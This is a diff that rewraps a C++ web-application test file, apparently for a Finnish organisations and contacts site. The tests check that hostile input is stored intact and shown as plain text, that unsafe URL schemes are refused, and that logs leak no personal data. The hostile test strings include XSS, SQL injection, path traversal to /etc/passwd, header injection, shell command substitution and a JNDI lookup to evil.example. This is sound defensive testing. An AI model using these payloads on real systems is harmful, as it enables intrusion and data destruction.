@@ -13,38 +13,60 @@ const std::vector<std::string>& hostileTexts() {
       "\"><svg onload=alert(1)>",
       "' onmouseover='alert(1)",
       "</textarea></title><img src=x onerror=alert(1)>",
-      "<!--<script>-->", "]]><x>",
+      "<!--<script>-->",
+      "]]><x>",
       "{{csrf}} {{{html.x}}} {{> layout}} {{#fields}}",
       "{name} {count, plural, other {#}} '{'",
       "&lt;b&gt; &amp;amp; &#60;i&#62;",
       "javascript:alert(1)",
       "[a](javascript:alert(1)) ![x](https://evil.example/x.png)",
       "'; DROP TABLE core_person; --",
-      "1' OR '1'='1", "%' OR 1=1 --", "100% _under_ \\back\\",
+      "1' OR '1'='1",
+      "%' OR 1=1 --",
+      "100% _under_ \\back\\",
       ":name :p1 ::text $1 $$ ?",
-      "=HYPERLINK(\"https://evil.example\")", "+1+1", "-1", "@SUM(A1)",
-      "../../../etc/passwd", "C:\\windows\\system32", "file:///etc/passwd",
+      "=HYPERLINK(\"https://evil.example\")",
+      "+1+1",
+      "-1",
+      "@SUM(A1)",
+      "../../../etc/passwd",
+      "C:\\windows\\system32",
+      "file:///etc/passwd",
       "Åbo Työväenyhdistys ÄÖÅ äöå Sámi čđŋšŧž",
-      "‮evil‬ \u200Bzero\u200Bwidth\uFEFF", "مرحبا 你好 🇫🇮 👩‍👩‍👧‍👦", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
-      "null", "undefined", "NaN", "true", "0", "%00", "%0d%0aSet-Cookie: x=1", "\\x00 \\u0000 \\n",
+      "‮evil‬ \u200Bzero\u200Bwidth\uFEFF",
+      "مرحبا 你好 🇫🇮 👩‍👩‍👧‍👦",
+      "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
+      "null",
+      "undefined",
+      "NaN",
+      "true",
+      "0",
+      "%00",
+      "%0d%0aSet-Cookie: x=1",
+      "\\x00 \\u0000 \\n",
       "<a href=\"https://evil.example\">here</a>",
-      "http://a/%%30%30", "`touch /tmp/x` $(id) ${jndi:ldap://evil.example/a}",
-      "<x\xC2\xA0onclick=alert(1)>", "\"'><&"};
+      "http://a/%%30%30",
+      "`touch /tmp/x` $(id) ${jndi:ldap://evil.example/a}",
+      "<x\xC2\xA0onclick=alert(1)>",
+      "\"'><&"};
   return texts;
 }
 
 /// What Markdown may make of a text, in the one place where it is read as such.
-const std::set<std::string> kMarkdown{"p", "ul", "ol", "li", "em", "strong", "a", "a[href]", "a[rel]", "code", "pre", "br", "hr",
-                                      "blockquote", "h2", "h3", "h4", "h5", "h6", "del", "ol[start]"};
+const std::set<std::string> kMarkdown{
+    "p",  "ul", "ol",         "li", "em", "strong", "a",  "a[href]", "a[rel]", "code",     "pre",
+    "br", "hr", "blockquote", "h2", "h3", "h4",     "h5", "h6",      "del",    "ol[start]"};
 
-/// Pages as they are with a harmless text: a hostile one must make the same elements and attributes.
+/// Pages as they are with a harmless text: a hostile one must make the same elements and
+/// attributes.
 class Shapes {
  public:
   void keep(const std::string& what, const Answer& page) {
     for (const std::string& element : shapeOf(page.body).elements) known_[what].insert(element);
   }
 
-  void check(const std::string& what, const Answer& page, const std::string& text, bool hasMarkdown = false) const {
+  void check(const std::string& what, const Answer& page, const std::string& text,
+             bool hasMarkdown = false) const {
     INFO(what << " shows: " << text);
     CHECK(page.status == 200);
     CHECK(htmlDecoded(page.body).find(text) != std::string::npos);
@@ -56,8 +78,10 @@ class Shapes {
     for (const std::string& address : shape.addresses) {
       INFO(address);
       const auto colon = address.find(':');
-      const std::string scheme = colon < address.find_first_of("/?#") ? address.substr(0, colon) : "";
-      CHECK((scheme.empty() || scheme == "http" || scheme == "https" || scheme == "mailto" || scheme == "tel"));
+      const std::string scheme =
+          colon < address.find_first_of("/?#") ? address.substr(0, colon) : "";
+      CHECK((scheme.empty() || scheme == "http" || scheme == "https" || scheme == "mailto" ||
+             scheme == "tel"));
     }
   }
 
@@ -72,9 +96,12 @@ TEST_CASE("hostile text in any field is stored whole and shown as text") {
     Server server(site.settings({{"log_level", "debug"}}));
     Browser admin = backstage.signedIn(server, site.account("national_admin"));
     Browser visitor(server);
-    const std::string network = "/fi/contacts/networks/" + backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM contacts_network WHERE region = '06'");
+    const std::string network =
+        "/fi/contacts/networks/" +
+        backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM contacts_network WHERE region = '06'");
     const std::string networkId = network.substr(network.rfind('/') + 1);
-    const std::string organisationId = backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM core_organisation WHERE region = '06'");
+    const std::string organisationId =
+        backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM core_organisation WHERE region = '06'");
     const std::string organisation = "/fi/organisations/" + organisationId;
     int member = 0;
     Shapes shapes;
@@ -83,19 +110,28 @@ TEST_CASE("hostile text in any field is stored whole and shown as text") {
     texts.insert(texts.end(), hostileTexts().begin(), hostileTexts().end());
     for (const std::string& text : texts) {
       INFO("text: " << text);
-      const auto shown = [&](const std::string& what, const Answer& page, bool hasMarkdown = false) {
+      const auto shown = [&](const std::string& what, const Answer& page,
+                             bool hasMarkdown = false) {
         if (text == texts.front()) shapes.keep(what, page);
         shapes.check(what, page, text, hasMarkdown);
       };
       // An organisation's card, with its three languages.
-      FormFields card{{"name_fi", text}, {"name_sv", text}, {"name_en", text}, {"sector", "association"}, {"business_id", ""},
-                      {"register_number", text.size() <= 20 ? text : "1"}, {"municipality", ""}, {"website", ""},
-                      {"summary_fi", text}, {"summary_sv", ""}, {"summary_en", ""}};
-      card.emplace_back("revision", backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " + organisationId));
+      FormFields card{{"name_fi", text},    {"name_sv", text},
+                      {"name_en", text},    {"sector", "association"},
+                      {"business_id", ""},  {"register_number", text.size() <= 20 ? text : "1"},
+                      {"municipality", ""}, {"website", ""},
+                      {"summary_fi", text}, {"summary_sv", ""},
+                      {"summary_en", ""}};
+      card.emplace_back(
+          "revision",
+          backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " +
+                         organisationId));
       REQUIRE(admin.post(organisation + "/edit", card).status == 303);
       admin.get("/fi/admin");  // takes the message of the change, which is no part of the measure
-      CHECK(backstage.text("SELECT name_fi FROM core_organisation WHERE id = " + organisationId) == text);
-      CHECK(backstage.text("SELECT summary_fi FROM core_organisation WHERE id = " + organisationId) == text);
+      CHECK(backstage.text("SELECT name_fi FROM core_organisation WHERE id = " + organisationId) ==
+            text);
+      CHECK(backstage.text("SELECT summary_fi FROM core_organisation WHERE id = " +
+                           organisationId) == text);
       shown("the card", visitor.get(organisation));
       shown("the form of the card", admin.get(organisation + "/edit"));
       shown("a search that finds it", visitor.get("/fi/organisations?q=" + percentEncoded(text)));
@@ -107,25 +143,36 @@ TEST_CASE("hostile text in any field is stored whole and shown as text") {
       shown("the form of a stale card", stale);
 
       // A network, whose purpose is Markdown.
-      FormFields form{{"name_fi", text}, {"name_sv", ""}, {"name_en", ""}, {"purpose_fi", text}, {"purpose_sv", ""},
-                      {"purpose_en", ""}, {"kind", "theme"}, {"coordinator", ""}};
-      form.emplace_back("revision", backstage.text("SELECT CAST(revision AS TEXT) FROM contacts_network WHERE id = " + networkId));
+      FormFields form{{"name_fi", text},    {"name_sv", ""},    {"name_en", ""},
+                      {"purpose_fi", text}, {"purpose_sv", ""}, {"purpose_en", ""},
+                      {"kind", "theme"},    {"coordinator", ""}};
+      form.emplace_back(
+          "revision",
+          backstage.text("SELECT CAST(revision AS TEXT) FROM contacts_network WHERE id = " +
+                         networkId));
       REQUIRE(admin.post(network + "/edit", form).status == 303);
       admin.get("/fi/admin");
-      CHECK(backstage.text("SELECT purpose_fi FROM contacts_network WHERE id = " + networkId) == text);
+      CHECK(backstage.text("SELECT purpose_fi FROM contacts_network WHERE id = " + networkId) ==
+            text);
       shown("the network", visitor.get(network), true);
       shown("the networks of the region", visitor.get("/fi/regions/pirkanmaa/contacts"));
-      const nlohmann::json json = nlohmann::json::parse(visitor.get("/api/v1/contacts/networks/" + networkId).body);
+      const nlohmann::json json =
+          nlohmann::json::parse(visitor.get("/api/v1/contacts/networks/" + networkId).body);
       CHECK(json.at("name").at("fi") == text);
 
       // A person.
       const std::string email = "nimi" + std::to_string(++member) + "@test.example";
-      const Answer added = admin.post(
-          network + "/members/new", {{"email", email}, {"given_name", text}, {"family_name", "Sukunimi"}, {"organisation", organisationId},
-                                     {"role", "contact_person"}, {"from", "2025-01-01"}, {"to", ""}});
+      const Answer added = admin.post(network + "/members/new", {{"email", email},
+                                                                 {"given_name", text},
+                                                                 {"family_name", "Sukunimi"},
+                                                                 {"organisation", organisationId},
+                                                                 {"role", "contact_person"},
+                                                                 {"from", "2025-01-01"},
+                                                                 {"to", ""}});
       REQUIRE(added.status == 303);
       admin.get("/fi/admin");
-      CHECK(backstage.text("SELECT given_name FROM core_person WHERE email_key = '" + email + "'") == text);
+      CHECK(backstage.text("SELECT given_name FROM core_person WHERE email_key = '" + email +
+                           "'") == text);
       shown("the network with the person", visitor.get(network), true);
       shown("the person", admin.get("/fi/admin/people/" + std::to_string(backstage.idOf(email))));
       shown("the search for the person", admin.get("/fi/admin/people?q=" + percentEncoded(email)));
@@ -145,29 +192,44 @@ TEST_CASE("hostile text in any field is stored whole and shown as text") {
   }
 }
 
-TEST_CASE("control characters, broken UTF-8 and text without end are refused in words and kept out") {
+TEST_CASE(
+    "control characters, broken UTF-8 and text without end are refused in words and kept out") {
   for (const DemoSite& site : demoSites()) {
     INFO(site.kind());
     Backstage backstage(site);
     Server server(site.settings());
     Browser admin = backstage.signedIn(server, site.account("national_admin"));
     const std::string id = backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM core_organisation");
-    const std::string name = backstage.text("SELECT name_fi FROM core_organisation WHERE id = " + id);
+    const std::string name =
+        backstage.text("SELECT name_fi FROM core_organisation WHERE id = " + id);
     using namespace std::string_literals;
-    for (const std::string& text : {"a\0b"s, "a\x01\x02"s, "a\x1B[31mred"s, "a\x7Fz"s, "a\xFFz"s, "a\xC3"s, "\xC0\xAF"s, "\xED\xA0\x80"s,
-                                    "a\xF4\x90\x80\x80"s, std::string(5'000, 'x')}) {
-      const std::string revision = backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " + id);
-      const Answer answer = admin.post("/fi/organisations/" + id + "/edit",
-                                       {{"name_fi", text}, {"name_sv", ""}, {"name_en", ""}, {"sector", "other"}, {"business_id", ""},
-                                        {"register_number", ""}, {"municipality", ""}, {"website", ""}, {"summary_fi", ""},
-                                        {"summary_sv", ""}, {"summary_en", ""}, {"revision", revision}});
+    for (const std::string& text :
+         {"a\0b"s, "a\x01\x02"s, "a\x1B[31mred"s, "a\x7Fz"s, "a\xFFz"s, "a\xC3"s, "\xC0\xAF"s,
+          "\xED\xA0\x80"s, "a\xF4\x90\x80\x80"s, std::string(5'000, 'x')}) {
+      const std::string revision =
+          backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " + id);
+      const Answer answer =
+          admin.post("/fi/organisations/" + id + "/edit", {{"name_fi", text},
+                                                           {"name_sv", ""},
+                                                           {"name_en", ""},
+                                                           {"sector", "other"},
+                                                           {"business_id", ""},
+                                                           {"register_number", ""},
+                                                           {"municipality", ""},
+                                                           {"website", ""},
+                                                           {"summary_fi", ""},
+                                                           {"summary_sv", ""},
+                                                           {"summary_en", ""},
+                                                           {"revision", revision}});
       CHECK(answer.status == 422);
       CHECK(answer.has("id=\"form-errors\""));
       CHECK(backstage.text("SELECT name_fi FROM core_organisation WHERE id = " + id) == name);
       // Nowhere a reason to fall over: in a search, a path, a cookie, a header.
       const Browser visitor(server);
-      for (const std::string& target : {"/fi/organisations?q=" + percentEncoded(text).substr(0, 6'000), "/fi/regions/" + percentEncoded(text).substr(0, 6'000),
-                                        "/fi/sign-in?next=" + percentEncoded(text).substr(0, 6'000)}) {
+      for (const std::string& target :
+           {"/fi/organisations?q=" + percentEncoded(text).substr(0, 6'000),
+            "/fi/regions/" + percentEncoded(text).substr(0, 6'000),
+            "/fi/sign-in?next=" + percentEncoded(text).substr(0, 6'000)}) {
         const auto status = Browser(server).get(target).status;
         INFO(target.substr(0, 60));
         CHECK((status == 200 || status == 404 || status == 400));
@@ -186,17 +248,25 @@ TEST_CASE("an address on an organisation's card can only be a web address") {
   const auto save = [&](const std::string& website) {
     return admin
         .post("/fi/organisations/" + id + "/edit",
-              {{"name_fi", "Nimi"}, {"sector", "other"}, {"website", website},
-               {"revision", backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " + id)}})
+              {{"name_fi", "Nimi"},
+               {"sector", "other"},
+               {"website", website},
+               {"revision",
+                backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " +
+                               id)}})
         .status;
   };
-  for (const std::string bad : {"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>", "vbscript:x", "file:///etc/passwd",
-                                "https://user@evil.example", "https://a b.example", "https://a.example/\"onclick=", "//evil.example", "ftp://a.example"}) {
+  for (const std::string bad :
+       {"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>", "vbscript:x",
+        "file:///etc/passwd", "https://user@evil.example", "https://a b.example",
+        "https://a.example/\"onclick=", "//evil.example", "ftp://a.example"}) {
     INFO(bad);
     CHECK(save(bad) == 422);
   }
   CHECK(save("https://toimela.example/sivu?a=1&b=2") == 303);
-  CHECK(Browser(server).get("/fi/organisations/" + id).has("href=\"https://toimela.example/sivu?a=1&amp;b=2\""));
+  CHECK(Browser(server)
+            .get("/fi/organisations/" + id)
+            .has("href=\"https://toimela.example/sivu?a=1&amp;b=2\""));
 }
 
 TEST_CASE("the log has nobody's address or name, whatever goes wrong") {
@@ -220,9 +290,18 @@ TEST_CASE("the log has nobody's address or name, whatever goes wrong") {
     backstage.run("DROP TABLE core_membership");
     const auto erased = backstage.text("SELECT email FROM core_person WHERE id = 5");
     CHECK(admin.get("/fi/admin/people?q=" + percentEncoded(erased)).status == 500);
-    CHECK(admin.post("/fi/admin/people/new", {{"given_name", "Salainen"}, {"family_name", "Nimi"}, {"email", "salainen@test.example"}, {"phone", ""},
-                                              {"language", "fi"}, {"initial_password", "Erittäin salainen 1"}, {"role", "member"},
-                                              {"place", "nation"}, {"valid_from", "2025-01-01"}, {"valid_to", ""}}).status != 0);
+    CHECK(admin
+              .post("/fi/admin/people/new", {{"given_name", "Salainen"},
+                                             {"family_name", "Nimi"},
+                                             {"email", "salainen@test.example"},
+                                             {"phone", ""},
+                                             {"language", "fi"},
+                                             {"initial_password", "Erittäin salainen 1"},
+                                             {"role", "member"},
+                                             {"place", "nation"},
+                                             {"valid_from", "2025-01-01"},
+                                             {"valid_to", ""}})
+              .status != 0);
     CHECK(server.stop() == 0);
     const std::string log = server.log();
     CHECK(log.find("status=\"500\"") != std::string::npos);
